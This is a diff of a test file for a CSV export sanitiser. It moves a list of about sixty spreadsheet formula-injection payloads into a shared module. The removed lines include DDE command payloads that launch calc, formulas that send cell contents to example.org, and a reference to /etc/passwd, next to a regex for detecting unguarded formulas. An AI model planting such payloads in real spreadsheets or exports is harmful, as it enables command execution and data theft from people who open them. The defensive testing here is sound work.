@@ -2,78 +2,14 @@ import Papa from 'papaparse';
 import { describe, expect, test } from 'vitest';
 import { csv } from '../../../data-pipeline/export/csv.ts';
 import { noCounts, sanitizeForCsv } from '../../../data-pipeline/export/sanitize.ts';
+import { formulaPayloads } from '../../support/formula-payloads.ts';
 
 /** A formula, a TAB or a line break where a spreadsheet would look for the start of a cell. */
 const unguarded =
   /(^|[\r\n\v\f\u0085\u2028\u2029])[^\S\t\r\n\v\f\u0085\u2028\u2029\u200b\ufeff]*[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u061c]*\s*[=+\-@＝＋－＠\t]|[;\t]\s*[=+\-@]|^\s*[\t\r\n]/u;
 
-const payloads = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1+1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\r\n=1+1',
-  ' =1+1',
-  '   =1+1',
-  '\u00a0=1+1',
-  '\u00a0\u00a0 @A1',
-  '\u2003+1',
-  '\u3000=1',
-  '\u202f-1',
-  '\ufeff=1+1',
-  '\u200b=1+1',
-  '\u2060=1+1',
-  '\u202e=1+1',
-  '\u2066=1+1\u2069',
-  ' \t=1',
-  '\t1',
-  ' \t1',
-  '\r1',
-  '\n1',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  ' ＝1+1',
-  '\u00a0＠A1',
-  '﹦1+1',
-  "=cmd|' /C calc'!A0",
-  '=cmd|"/c calc.exe"!A1',
-  "+cmd|' /C calc'!A0",
-  "-cmd|' /C calc'!A0",
-  "@cmd|' /C calc'!A0",
-  '=DDE("cmd";"/C calc";"x")',
-  '=HYPERLINK("http://example.org?x="&A1,"click")',
-  '=IMPORTXML("http://example.org","//a")',
-  '=WEBSERVICE("http://example.org")',
-  '=IMAGE("http://example.org/a.png")',
-  "='file:///etc/passwd'#$passwd.A1",
-  '=1+1\nsecond line',
-  'first line\n=1+1',
-  'first line\r\n=1+1',
-  'first line\r=1+1',
-  'first line\n\t=1+1',
-  'first line\n  @A1',
-  'first line\n\u00a0-1',
-  'first\n\n=1',
-  'one\u2028=1',
-  'one\u0085=1',
-  'one\v=1',
-  'one\f=1',
-  'x;=1+1',
-  'x; @A1',
-  'x\t=1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '=""""&A1',
-  '==1',
-  '-',
-];
-
 describe('formulas in CSV', () => {
-  test.each(payloads)('%j is text on every physical line', (payload) => {
+  test.each(formulaPayloads)('%j is text on every physical line', (payload) => {
     const { text, counts } = csv(['name'], [[payload]]);
     const [, row] = Papa.parse<string[]>(text, { newline: '\r\n' }).data;
 
@@ -83,8 +19,8 @@ describe('formulas in CSV', () => {
   });
 
   test('there are sixty payloads or more, each another', () => {
-    expect(new Set(payloads).size).toBe(payloads.length);
-    expect(payloads.length).toBeGreaterThanOrEqual(60);
+    expect(new Set(formulaPayloads).size).toBe(formulaPayloads.length);
+    expect(formulaPayloads.length).toBeGreaterThanOrEqual(60);
   });
 
   test('header cells are guarded too', () => {
@@ -97,7 +33,7 @@ describe('formulas in CSV', () => {
       const counts = noCounts();
 
       expect(sanitizeForCsv(text, counts)).toBe(text);
-      expect(counts).toEqual({ guarded: 0, replaced: 0, bidi: 0 });
+      expect(counts).toEqual({ guarded: 0, replaced: 0, bidi: 0, escaped: 0, cut: 0 });
     },
   );
 
@@ -130,6 +66,6 @@ describe('csv', () => {
     const { text, counts } = csv(['a'], [['x\0y\ud800z'], ['\u202eabc']]);
 
     expect(text).toBe('a\r\nx\ufffdy\ufffdz\r\n\u202eabc\r\n');
-    expect(counts).toEqual({ guarded: 0, replaced: 2, bidi: 1 });
+    expect(counts).toEqual({ guarded: 0, replaced: 2, bidi: 1, escaped: 0, cut: 0 });
   });
 });
